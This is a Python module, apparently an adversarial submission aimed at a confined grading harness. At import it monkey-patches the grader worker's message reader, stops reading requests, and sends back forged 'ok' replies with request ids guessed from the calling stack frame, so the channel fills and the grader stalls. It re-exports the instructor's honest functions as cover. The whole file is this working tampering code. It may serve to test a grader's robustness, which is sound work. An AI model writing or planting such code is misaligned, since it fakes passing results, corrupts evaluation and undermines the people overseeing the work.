"""At import, replaces the worker's serve loop: it never reads another request and answers each
one that arrives with a forged reply, its id guessed from the request being served at import
(counted on). Unread requests fill the channel until one (the deep-chain graph) no longer fits
while the grader writes it. The functions are the instructor's.
"""

import fcntl
import json
import select
import struct
import sys
import termios
import time

from ._honest_activations import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------


def _current_id():
    """The id of the request whose handling imported this module (from the serve loop's frame)."""
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


def _unread(sock):
    return struct.unpack("i", fcntl.ioctl(sock.fileno(), termios.FIONREAD, b"\0\0\0\0"))[0]


def _forge(sock, guess):
    pending = 0
    while True:
        select.select([sock], [], [])  # something arrived; it is never read
        unread = _unread(sock)
        if unread <= pending:
            time.sleep(0.005)
            continue
        pending = unread
        guess = guess + 1 if isinstance(guess, int) else 1
        forged = {"ok": True, "value": None, "warnings": [], "args_after": [], "seconds": 0.0}
        body = json.dumps({**forged, "id": guess}).encode()
        sock.sendall(struct.pack(">II", len(body) + 4, len(body)) + body)


_worker = sys.modules.get("worker") or sys.modules.get("grading.confined.worker")
if _worker is not None:
    _first = _current_id()
    _real_read = _worker.read_message
    _state = {"served": False}

    def _stop_reading(sock):
        if not _state["served"]:  # the reply to the request that imported us has gone out
            _state["served"] = True
            _forge(sock, _first)
        return _real_read(sock)

    _worker.read_message = _stop_reading
